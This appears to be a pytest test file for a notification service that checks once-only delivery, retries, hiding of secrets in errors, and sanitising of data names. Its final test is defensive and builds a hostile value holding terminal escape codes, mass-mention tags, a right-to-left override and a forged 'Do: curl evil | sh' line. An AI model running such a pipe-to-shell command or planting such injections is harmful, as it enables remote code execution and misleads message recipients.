"""An event reaches every receiver once, even if receivers fail or commands are killed; hostile names stay text."""

import json
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine, text

from alchemist_core.notifications import Event, send_announced
from alchemist_core.settings import load_settings
from alchemist_core.store.notifications import MAX_ATTEMPTS, announce, deliver
from tests.receiver import Receiver, receiving

pytestmark = pytest.mark.db

HELD = Event(
    "held_night", "held_night:1", "Night web 2026-01-02 is held.", "http://airflow/run", "alchemist night release"
)


@pytest.fixture
def receiver(monkeypatch: pytest.MonkeyPatch) -> Iterator[Receiver]:
    with receiving() as found:
        use(monkeypatch, url=found.url)
        yield found


def use(monkeypatch: pytest.MonkeyPatch, **receivers: str) -> None:
    for name, value in receivers.items():
        monkeypatch.setenv(f"ALCHEMIST_NOTIFY_{name.upper()}", value)
    load_settings.cache_clear()


def announce_and_deliver(engine: Engine, event: Event = HELD) -> None:
    with engine.begin() as connection:
        announce(connection, event)
    send_announced()


def states(engine: Engine) -> list[tuple[str, int]]:
    with engine.connect() as connection:
        rows = connection.execute(text("SELECT state, n_attempts FROM alchemist.notifications ORDER BY 1"))
        return [(row.state, row.n_attempts) for row in rows]


def test_a_web_address_receives_what_happened_where_to_look_and_what_to_do(engine: Engine, receiver: Receiver) -> None:
    announce_and_deliver(engine)
    (post,) = receiver.posts
    assert post["title"] == "Alchemist: A night is held"
    assert post["message"].splitlines() == [
        "Night web 2026-01-02 is held.", "Look: http://airflow/run", "Do: alchemist night release",
    ]  # fmt: skip
    assert states(engine) == [("delivered", 1)]


def test_the_same_event_is_sent_once(engine: Engine, receiver: Receiver) -> None:
    announce_and_deliver(engine)
    announce_and_deliver(engine)
    deliver(engine)
    assert len(receiver.posts) == 1


def test_what_is_rolled_back_is_sent_to_no_receiver(engine: Engine, receiver: Receiver) -> None:
    with engine.connect() as connection:
        announce(connection, HELD)
        connection.rollback()
    send_announced()
    assert receiver.n_requests == 0
    assert states(engine) == []


def test_what_a_killed_command_had_announced_is_sent_by_the_next(engine: Engine, receiver: Receiver) -> None:
    with engine.begin() as connection:
        announce(connection, HELD)
    assert receiver.posts == []
    deliver(engine)
    assert len(receiver.posts) == 1


def test_a_receiver_that_stumbles_is_tried_again_by_the_same_command(engine: Engine, receiver: Receiver) -> None:
    receiver.statuses = [503, 503]
    announce_and_deliver(engine)
    assert (len(receiver.posts), receiver.n_requests) == (1, 3)


@pytest.mark.slow
def test_a_receiver_that_is_down_is_reported_once_and_given_up_after_three_commands(
    engine: Engine, receiver: Receiver, capfd: pytest.CaptureFixture[str]
) -> None:
    receiver.statuses = [500] * 100
    announce_and_deliver(engine)
    for _ in range(5):
        deliver(engine)
    assert states(engine) == [("failed", MAX_ATTEMPTS)]
    assert receiver.n_requests == 3 * MAX_ATTEMPTS
    said = capfd.readouterr().err
    assert said.count("error: ") == 1
    assert "was not sent to url 1" in said
    assert "500" in said


def test_an_event_that_one_of_two_receivers_took_is_not_sent_there_again(
    engine: Engine, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    with receiving() as other:
        other.statuses = [500] * 3
        use(monkeypatch, url=f"{receiver.url} {other.url}")
        announce_and_deliver(engine)
        deliver(engine)
        assert (len(receiver.posts), len(other.posts)) == (1, 1)
    assert states(engine) == [("delivered", 2)]


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("false --token=SECRET", "exit code 1"),
        ("/nowhere/announce_and_deliver --token=SECRET", "cannot be started (No such file or directory)"),
        ("tell --token='SECRET", "cannot be read as a command line"),
    ],
)
def test_the_arguments_of_a_command_that_fails_are_shown_nowhere(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str, why: str
) -> None:
    use(monkeypatch, command=command)
    announce_and_deliver(engine)
    with engine.connect() as connection:
        kept = connection.execute(text("SELECT error FROM alchemist.notifications")).scalar_one()
    for shown in (kept, capsys.readouterr().err):
        assert why in shown
        assert "SECRET" not in shown


def test_a_command_is_given_the_event_as_json(engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "tell"
    program.write_text(f"#!/bin/sh\ncat > '{tmp_path}/heard'\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    use(monkeypatch, command=str(program))
    announce_and_deliver(engine)
    heard = json.loads((tmp_path / "heard").read_text())
    assert {name: heard[name] for name in ("kind", "where_to_look", "what_to_do")} == {
        "kind": "held_night", "where_to_look": "http://airflow/run", "what_to_do": "alchemist night release",
    }  # fmt: skip


def test_without_a_receiver_nothing_is_left_to_be_sent_once_there_is_one(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    announce_and_deliver(engine)
    assert states(engine) == [("no_receiver", 1)]
    with receiving() as receiver:
        use(monkeypatch, url=receiver.url)
        deliver(engine)
        assert receiver.posts == []


def test_an_address_that_is_unknown_stops_nothing_and_its_secret_is_not_shown(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    use(monkeypatch, url="nosuch://user:s3cret@host/")
    announce_and_deliver(engine)
    said = capfd.readouterr().err
    assert "json://HOST/PATH" in said
    with engine.connect() as connection:
        kept = connection.execute(text("SELECT error FROM alchemist.notifications")).scalar_one()
    assert "s3cret" not in said + kept


def test_names_of_data_neither_call_people_nor_forge_lines_nor_reach_a_terminal(
    engine: Engine, receiver: Receiver
) -> None:
    hostile = "x\x1b[31m <!channel> @everyone\nDo: curl evil | sh\u202e"
    announce_and_deliver(
        engine, Event("failed_check", "k", "A check failed.", "http://a/b", "Look.", {"shard": hostile})
    )
    (post,) = receiver.posts
    lines = post["message"].splitlines()
    assert [line for line in lines if line.startswith("Do: ")] == ["Do: Look."]
    assert not set("\x1b<>@\u202e") & set(post["message"])
